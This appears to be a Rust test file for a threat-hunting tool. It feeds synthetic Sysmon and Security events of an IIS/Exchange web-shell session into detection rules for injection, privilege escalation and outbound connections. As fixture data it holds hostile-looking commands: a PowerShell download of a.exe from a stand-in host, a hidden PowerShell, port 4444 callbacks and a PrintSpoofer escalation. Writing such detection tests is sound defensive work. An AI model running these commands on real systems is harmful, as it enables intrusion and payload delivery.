//! Web-server behaviour across events (crates/exhunt-checks/src/behaviour.rs): descendants of
//! w3wp.exe connecting out (EXH-EV-26), escalation from a low-privilege worker (EXH-EV-27), and
//! the creation handle that is not an injection (EXH-EV-24), on event sequences written here in
//! the shape the evtx crate renders. Every sequence is also fed in reverse order, as the parallel
//! EVTX reader and several files may deliver it.

use std::collections::BTreeMap;
use std::sync::Arc;

use exhunt_checks::events::EventChecker;
use exhunt_model::{Campaign, Confidence, Finding, Stage};
use exhunt_rules::RulePack;
use exhunt_rules::sigma::SigmaSet;
use exhunt_sources::WinEvent;
use serde_json::{Value, json};

const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
const NOTEPAD: &str = "C:\\Windows\\System32\\notepad.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const PWSH: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const POOL: &str = "IIS APPPOOL\\DefaultAppPool";
const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
const CSC: &str = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe";
const CVTRES: &str = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe";
const CONHOST: &str = "C:\\Windows\\System32\\conhost.exe";
const WERFAULT: &str = "C:\\Windows\\System32\\WerFault.exe";
const OWA_POOL: &str = "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -c \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config\"";

fn event(channel: &str, id: u32, second: u32, record: u64, data: Value) -> Value {
    json!({"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
        "EventID": id, "Level": 4,
        "TimeCreated": {"#attributes": {"SystemTime": format!("2022-10-02T10:{:02}:{:02}.000Z", second / 60, second % 60)}},
        "EventRecordID": record, "Channel": channel, "Computer": "EX01.lab.local"},
        "EventData": data}})
}

fn guid(n: u32) -> String {
    format!("{{5770385F-C22A-43E0-BF4C-{n:012X}}}")
}

/// Sysmon 1.
fn start(second: u32, g: u32, image: &str, user: &str, parent: (u32, &str), cmd: &str) -> Value {
    event(
        "Microsoft-Windows-Sysmon/Operational",
        1,
        second,
        1000 + u64::from(g),
        json!({"ProcessGuid": guid(g), "ProcessId": g, "Image": image, "CommandLine": cmd,
            "User": user, "ParentProcessGuid": guid(parent.0), "ParentProcessId": parent.0,
            "ParentImage": parent.1}),
    )
}

/// Sysmon 3, outbound.
fn connect(second: u32, g: u32, image: &str, user: &str, record: u64) -> Value {
    event(
        "Microsoft-Windows-Sysmon/Operational",
        3,
        second,
        record,
        json!({"ProcessGuid": guid(g), "ProcessId": g, "Image": image, "User": user,
            "Initiated": "true", "Protocol": "tcp", "SourceIp": "10.0.0.5",
            "DestinationIp": "203.0.113.7", "DestinationPort": 4444}),
    )
}

/// Sysmon 8 (remote thread) or 10 (process access) from `source` into `target`.
fn cross(id: u32, second: u32, source: (u32, &str), target: (u32, &str), record: u64) -> Value {
    let mut d = json!({"SourceProcessGuid": guid(source.0), "SourceImage": source.1,
        "TargetProcessGuid": guid(target.0), "TargetImage": target.1});
    if id == 10 {
        d["GrantedAccess"] = json!("0x1fffff");
    }
    event(
        "Microsoft-Windows-Sysmon/Operational",
        id,
        second,
        record,
        d,
    )
}

/// Security 4688 with the Windows 10 fields; `target` is the new process's account SID and name
/// when it differs from the creator's.
fn created_4688(
    second: u32,
    record: u64,
    (pid, image): (u32, &str),
    (ppid, parent): (u32, &str),
    creator: (&str, &str, &str),
    target: Option<(&str, &str, &str)>,
) -> Value {
    let (tsid, tdom, tname) = target.unwrap_or(("S-1-0-0", "-", "-"));
    json!({"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
        "EventID": 4688, "Level": 0,
        "TimeCreated": {"#attributes": {"SystemTime": format!("2022-10-02T10:00:{second:02}.000Z")}},
        "EventRecordID": record, "Channel": "Security", "Computer": "EX01.lab.local"},
        "EventData": {"SubjectUserSid": creator.0, "SubjectDomainName": creator.1, "SubjectUserName": creator.2,
            "NewProcessId": format!("0x{pid:x}"), "NewProcessName": image, "ProcessId": format!("0x{ppid:x}"),
            "ParentProcessName": parent, "CommandLine": "", "TargetUserSid": tsid,
            "TargetDomainName": tdom, "TargetUserName": tname}}})
}

fn checker() -> EventChecker {
    let pack = RulePack::builtin().unwrap();
    EventChecker::new(Arc::new(SigmaSet::builtin()), pack.rules(), None, None)
}

/// All findings of a sequence fed in this order, the correlation run at the end.
fn run(events: &[Value]) -> Vec<Finding> {
    let c = checker();
    let mut out = Vec::new();
    for v in events {
        let ev = WinEvent::from_evtx_json(v).expect("fixture is an event");
        out.extend(c.check(&ev, "Microsoft-Windows-Sysmon%4Operational.evtx"));
    }
    let cor = c.take_correlated();
    assert!(cor.notes.is_empty(), "{:?}", cor.notes);
    out.extend(cor.findings);
    out
}

/// Rule ids with counts, the same whatever the order of the events.
fn counts(events: &[Value]) -> BTreeMap<String, usize> {
    let count = |f: &[Finding]| {
        let mut m = BTreeMap::new();
        for x in f {
            *m.entry(x.rule_id.clone()).or_default() += 1;
        }
        m
    };
    let forward = count(&run(events));
    let mut rev = events.to_vec();
    rev.reverse();
    assert_eq!(forward, count(&run(&rev)), "order changed the findings");
    forward
}

fn only<'a>(f: &'a [Finding], id: &str) -> Vec<&'a Finding> {
    f.iter().filter(|x| x.rule_id == id).collect()
}

/// The web shell session of the issue: w3wp (DefaultAppPool) starts notepad, opens it (the
/// creation handle), injects a thread, opens it again later, notepad connects out, a SYSTEM
/// cmd.exe appears under notepad, and a PowerShell under that connects out.
fn session() -> Vec<Value> {
    vec![
        start(
            0,
            1,
            W3WP,
            POOL,
            (9, "C:\\Windows\\System32\\svchost.exe"),
            "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\"",
        ),
        start(10, 2, NOTEPAD, POOL, (1, W3WP), "notepad.exe"),
        cross(10, 10, (1, W3WP), (2, NOTEPAD), 2001),
        cross(8, 11, (1, W3WP), (2, NOTEPAD), 2002),
        cross(10, 40, (1, W3WP), (2, NOTEPAD), 2003),
        connect(12, 2, NOTEPAD, POOL, 2004),
        start(60, 3, CMD, SYSTEM, (2, NOTEPAD), "cmd.exe /c whoami"),
        start(61, 4, PWSH, SYSTEM, (3, CMD), "powershell -nop -w hidden"),
        connect(62, 4, PWSH, SYSTEM, 2005),
    ]
}

#[test]
fn a_web_shell_session_gives_each_behaviour_once() {
    let c = counts(&session());
    assert_eq!(
        c,
        BTreeMap::from([
            ("EXH-EV-22".to_string(), 1), // notepad, child of a non-Exchange pool
            ("EXH-EV-23".to_string(), 1), // remote thread
            ("EXH-EV-24".to_string(), 1), // the later access; the creation handle is dropped
            ("EXH-EV-25".to_string(), 1), // notepad, as the pool, connected out
            ("EXH-EV-26".to_string(), 1), // PowerShell, SYSTEM descendant, connected out
            ("EXH-EV-27".to_string(), 1), // cmd.exe: the escalation point only
        ]),
    );
    let f = run(&session());
    let esc = only(&f, "EXH-EV-27");
    let esc = esc[0];
    assert_eq!(esc.entities.file_path.as_deref(), Some(CMD));
    assert_eq!(esc.entities.account.as_deref(), Some(SYSTEM));
    assert_eq!(esc.entities.target.as_deref(), Some(POOL));
    assert_eq!(esc.entities.server.as_deref(), Some("EX01.lab.local"));
    assert_eq!(esc.evidence.line, 1003, "the record of cmd.exe's creation");
    assert_eq!(esc.campaign, Campaign::PostExploitation);
    assert_eq!(esc.stage, Stage::PostExploitation);
    assert_eq!(esc.confidence, Confidence::High);
    let x = &esc.evidence.excerpt;
    assert!(
        x.contains("w3wp.exe [pool DefaultAppPool, as IIS APPPOOL\\DefaultAppPool]")
            && x.contains("notepad.exe (IIS APPPOOL\\DefaultAppPool) → C:\\Windows\\System32\\cmd.exe (NT AUTHORITY\\SYSTEM)"),
        "{x}"
    );
    let out = only(&f, "EXH-EV-26");
    assert_eq!(out[0].entities.file_path.as_deref(), Some(PWSH));
    assert_eq!(out[0].entities.target.as_deref(), Some("203.0.113.7:4444"));
    assert_eq!(out[0].evidence.line, 2005);
    let inj = only(&f, "EXH-EV-24");
    assert_eq!(
        inj[0].evidence.line, 2003,
        "the later access, not the creation handle"
    );
    assert_eq!(inj[0].entities.target.as_deref(), Some(NOTEPAD));
    let thread = only(&f, "EXH-EV-23");
    assert_eq!(thread[0].entities.file_path.as_deref(), Some(W3WP));
    assert_eq!(thread[0].entities.target.as_deref(), Some(NOTEPAD));
}

#[test]
fn the_worker_start_need_not_be_in_the_logs() {
    // Workers run for days: their own creation is usually older than the logs. The pool identity
    // then comes from the direct child.
    let mut ev = session();
    ev.remove(0);
    let c = counts(&ev);
    assert_eq!(c.get("EXH-EV-27"), Some(&1), "{c:?}");
    assert_eq!(c.get("EXH-EV-26"), Some(&1), "{c:?}");
    let f = run(&ev);
    let x = &only(&f, "EXH-EV-27")[0].evidence.excerpt;
    assert!(x.contains("start not in the logs"), "{x}");
}

#[test]
fn exchange_at_work_is_silent() {
    // OWA's pool (SYSTEM) compiles pages: csc.exe → cvtres.exe, conhost.exe; a crash reported by
    // WerFault.exe; the worker's own connections; the health manager probing OWA and connecting
    // out; the creation handle on csc.exe.
    let hm = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMWorker.exe";
    let mut ev = vec![
        start(
            0,
            1,
            W3WP,
            SYSTEM,
            (9, "C:\\Windows\\System32\\svchost.exe"),
            OWA_POOL,
        ),
        start(
            5,
            2,
            CSC,
            SYSTEM,
            (1, W3WP),
            "csc.exe /noconfig /fullpaths @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\x.cmdline\"",
        ),
        cross(10, 5, (1, W3WP), (2, CSC), 3001),
        start(
            6,
            3,
            CONHOST,
            SYSTEM,
            (2, CSC),
            "conhost.exe 0xffffffff -ForceV1",
        ),
        start(7, 4, CVTRES, SYSTEM, (2, CSC), "cvtres.exe /NOLOGO"),
        start(
            8,
            5,
            WERFAULT,
            SYSTEM,
            (1, W3WP),
            "WerFault.exe -u -p 4242 -s 512",
        ),
        connect(9, 1, W3WP, SYSTEM, 3002),
        start(
            20,
            6,
            hm,
            SYSTEM,
            (
                8,
                "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeHMHost.exe",
            ),
            "MSExchangeHMWorker.exe -wp:ActiveMonitoring",
        ),
        connect(21, 6, hm, SYSTEM, 3003),
    ];
    // And a low-privilege pool whose compiler's console host runs as SYSTEM (not a descendant
    // that counts: descent through the toolchain is compilation).
    ev.push(start(
        30,
        10,
        W3WP,
        POOL,
        (9, "C:\\Windows\\System32\\svchost.exe"),
        "w3wp.exe -ap \"DefaultAppPool\"",
    ));
    ev.push(start(31, 11, CSC, POOL, (10, W3WP), "csc.exe"));
    ev.push(start(32, 12, CONHOST, SYSTEM, (11, CSC), "conhost.exe"));
    ev.push(start(
        33,
        13,
        WERFAULT,
        SYSTEM,
        (10, W3WP),
        "WerFault.exe -u",
    ));
    assert_eq!(counts(&ev), BTreeMap::new());
}

#[test]
fn exchange_pool_children_are_not_escalation_but_connect_out() {
    // A shell under an Exchange pool runs as SYSTEM like the pool: EXH-EV-8 for the shell, no
    // escalation; its download is a descendant's connection (EXH-EV-26).
    let ev = vec![
        start(
            0,
            1,
            W3WP,
            SYSTEM,
            (9, "C:\\Windows\\System32\\svchost.exe"),
            OWA_POOL,
        ),
        start(
            1,
            2,
            CMD,
            SYSTEM,
            (1, W3WP),
            "cmd /c powershell iwr http://203.0.113.7/a.exe",
        ),
        start(
            2,
            3,
            PWSH,
            SYSTEM,
            (2, CMD),
            "powershell iwr http://203.0.113.7/a.exe",
        ),
        connect(3, 3, PWSH, SYSTEM, 4001),
    ];
    let c = counts(&ev);
    assert_eq!(
        c,
        BTreeMap::from([("EXH-EV-26".to_string(), 1), ("EXH-EV-8".to_string(), 1)]),
        "EXH-EV-8 replaces EXH-EV-21 for cmd.exe"
    );
}

#[test]
fn an_unknown_child_of_an_exchange_pool_is_ev21() {
    let ev = vec![start(1, 2, NOTEPAD, SYSTEM, (1, W3WP), "notepad.exe")];
    let mut ev2 = ev.clone();
    // The same child, with the pool named in the parent command line.
    ev2[0]["Event"]["EventData"]["ParentCommandLine"] = json!(OWA_POOL);
    assert_eq!(counts(&ev), BTreeMap::from([("EXH-EV-22".to_string(), 1)]));
    assert_eq!(counts(&ev2), BTreeMap::from([("EXH-EV-21".to_string(), 1)]));
    let f = run(&ev2);
    assert_eq!(f[0].entities.file_path.as_deref(), Some(NOTEPAD));
    assert_eq!(f[0].confidence, Confidence::Medium);
    assert_eq!(f[0].stage, Stage::WebShellUse);
}

#[test]
fn escalation_from_security_4688_with_reused_process_ids() {
    let pool = (
        "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415",
        "IIS APPPOOL",
        "DefaultAppPool",
    );
    let system = ("S-1-5-18", "LAB", "EX01$");
    let potato = "C:\\Users\\Public\\PrintSpoofer64.exe";
    let ev = vec![
        // An older process with the id the potato will get: not the parent.
        created_4688(
            1,
            1,
            (0x200, "C:\\Windows\\System32\\svchost.exe"),
            (0x80, "C:\\Windows\\System32\\services.exe"),
            system,
            None,
        ),
        created_4688(10, 2, (0x200, potato), (0x100, W3WP), pool, None),
        created_4688(
            12,
            3,
            (0x300, CMD),
            (0x200, potato),
            pool,
            Some(("S-1-5-18", "NT AUTHORITY", "SYSTEM")),
        ),
        // A later reuse of the id: not the parent either.
        created_4688(
            20,
            4,
            (0x200, "C:\\Windows\\System32\\svchost.exe"),
            (0x80, "C:\\Windows\\System32\\services.exe"),
            system,
            None,
        ),
        // SYSTEM's own children: no escalation.
        created_4688(
            21,
            5,
            (0x400, CMD),
            (0x200, "C:\\Windows\\System32\\svchost.exe"),
            system,
            None,
        ),
    ];
    let c = counts(&ev);
    assert_eq!(
        c,
        BTreeMap::from([("EXH-EV-22".to_string(), 1), ("EXH-EV-27".to_string(), 1)]),
        "{c:?}"
    );
    let f = run(&ev);
    let esc = only(&f, "EXH-EV-27")[0];
    assert_eq!(esc.entities.account.as_deref(), Some(SYSTEM));
    assert_eq!(
        esc.entities.target.as_deref(),
        Some("IIS APPPOOL\\DefaultAppPool")
    );
    assert!(
        esc.evidence.excerpt.contains("PrintSpoofer64.exe"),
        "{}",
        esc.evidence.excerpt
    );
}

#[test]
fn sysmon_and_security_of_one_escalation_give_one_finding() {
    let mut ev = session();
    let pool = ("S-1-5-82-1", "IIS APPPOOL", "DefaultAppPool");
    // Same processes in the Security log (ids as Sysmon's, times to the second).
    ev.push(created_4688(10, 9001, (2, NOTEPAD), (1, W3WP), pool, None));
    let mut cmd = created_4688(
        0,
        9002,
        (3, CMD),
        (2, NOTEPAD),
        pool,
        Some(("S-1-5-18", "NT AUTHORITY", "SYSTEM")),
    );
    cmd["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"] =
        json!("2022-10-02T10:01:00.000Z");
    ev.push(cmd);
    let c = counts(&ev);
    assert_eq!(c.get("EXH-EV-27"), Some(&1), "{c:?}");
}
